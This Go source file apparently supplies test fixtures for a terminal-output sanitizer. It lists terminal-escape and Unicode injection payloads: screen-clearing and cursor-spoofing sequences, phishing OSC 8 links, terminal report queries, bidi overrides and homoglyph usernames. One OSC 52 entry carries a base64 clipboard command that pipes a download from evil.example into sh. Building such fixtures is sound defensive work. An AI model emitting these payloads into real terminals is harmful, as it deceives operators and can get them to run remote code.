package population

import "strings"

// Attacks returns every attack. All texts are valid UTF-8, as nothing else passes through JSON:
// the 8-bit controls are the runes U+0080 to U+009F. None is longer than 2,048 bytes.
func Attacks() []Attack {
	var all []Attack
	add := func(kind, raw string) {
		all = append(all, Attack{Kind: kind, Username: "mallory-" + strings.ReplaceAll(kind, " ", "-"), Raw: raw})
	}
	named := func(kind, username string) {
		all = append(all, Attack{Kind: kind, Username: username, Raw: username, InUsername: true})
	}

	add("sgr", "\x1b[31;1;5mADMIN\x1b[0m \x1b[8mhidden\x1b[28m \x1b[7mreverse")
	add("osc8", "\x1b]8;;https://phish.example/login\x1b\\Verify your account\x1b]8;;\x1b\\")
	add("osc52", "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07copied")
	add("title", "\x1b]0;root@production\x07Mallory\x1b]2;owned\x1b\\")
	add("osc misc", "\x1b]9;Your session expired\x07\x1b]777;notify;AWS;call us\x07\x1b]1337;File=inline=1:AAAA\x07\x1b]4;1;#000000\x07")
	add("clear", "Mallory\x1b[2J\x1b[3J\x1b[HAll users were deleted.")
	add("cursor", "Mallory\x1b[1A\x1b[999D\x1b[2Kalice  CONFIRMED  enabled\x1b[1B")
	add("carriage return", "disabled: yes\rdisabled: no ")
	add("backspace", "Mallory\b\b\b\b\b\b\bAlice  ")
	add("bidi override", "invoice\u202efdp.exe\u202c \u202dabc\u202c")
	add("bidi embedding", "\u202aMal\u202blory\u200f\u200e\u061c")
	add("bidi isolate", "user\u2067 \u2066admin\u2069\u2068 root")
	add("c1 csi", "Mallory\u009b31mred\u009b2J\u009b0m")
	add("c1 osc", "\u009d0;owned\u009c\u0090q#0\u009c\u0098sos\u009c\u009epm\u009c\u009fapc\u009c")
	add("c1 misc", "a\u0085b\u0084c\u008dd\u0080e\u008ef\u008fg")
	// Bytes of the 8-bit form as a Latin-1 reader recorded them: decoded once more they are a
	// CSI.
	add("eight bit", "Mallory\u00c2\u009b31m\ufffd\ufffd[2J\u00c2")
	add("dcs", "\x1bP$qm\x1b\\\x1bPq#0;2;0;0;0#0~~@@vv@@~~\x1b\\\x1bP+q544e\x1b\\")
	add("apc", "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\\x1b^privacy\x1b\\\x1bXstring\x1b\\")
	add("modes", "\x1b[?1049h\x1b[?25l\x1b[?1003h\x1b[?2004l\x1b[?7lMallory")
	// The terminal answers these as if the operator had typed the answer.
	add("report", "\x1b[6n\x1b[c\x1b[>0c\x1b[21t\x1b]11;?\x07\x05")
	add("reset", "\x1bc\x1b(0\x0elqqk\x0f\x1b#8\x1b[!p")
	add("long", strings.Repeat("Wolfeschlegelsteinhausen-bergerd", 2048/32))
	add("wide", strings.Repeat("漢", 2048/3))
	add("nul", "Mal\x00lory\x01\x02\x1a\x1c\x7f")
	add("zalgo", zalgo("Mallory", 24))
	add("newline", "Mallory\tTab\nusername: alice\r\nstatus: CONFIRMED\v\f")
	add("line separator", "Mallory\u2028username: alice\u2029next")
	add("zero width", "M\u200ba\u200cl\u200dl\u2060o\ufeffr\u00ady\u180e\U000e0041\U000e007f\ufff9x\ufffay\ufffb")
	add("blank", "\u3164\u2800\u115f\u1160\u00a0\u2003")
	add("literal", `\u001b[2J \x1b[31m \033[0m ^[[1m \e[5m %1b[2J &#27;[2J`)
	add("half csi", "Mallory \x1b[38;2;255")
	add("half osc", "Mallory \x1b]8;;https://phish.example/")
	add("lone esc", "Mallory \x1b")
	// The characters of usernames are enough for these.
	named("homoglyph", "\u0430lice")
	named("filler", "mallory\u3164\u2800")
	named("zalgo username", zalgo("mallory", 8))
	return all
}

// zalgo piles combining marks onto each letter.
func zalgo(text string, marks int) string {
	var b strings.Builder
	for i, r := range text {
		b.WriteRune(r)
		for n := range marks {
			b.WriteRune(rune(0x300 + (i*13+n*7)%0x70))
		}
	}
	return b.String()
}
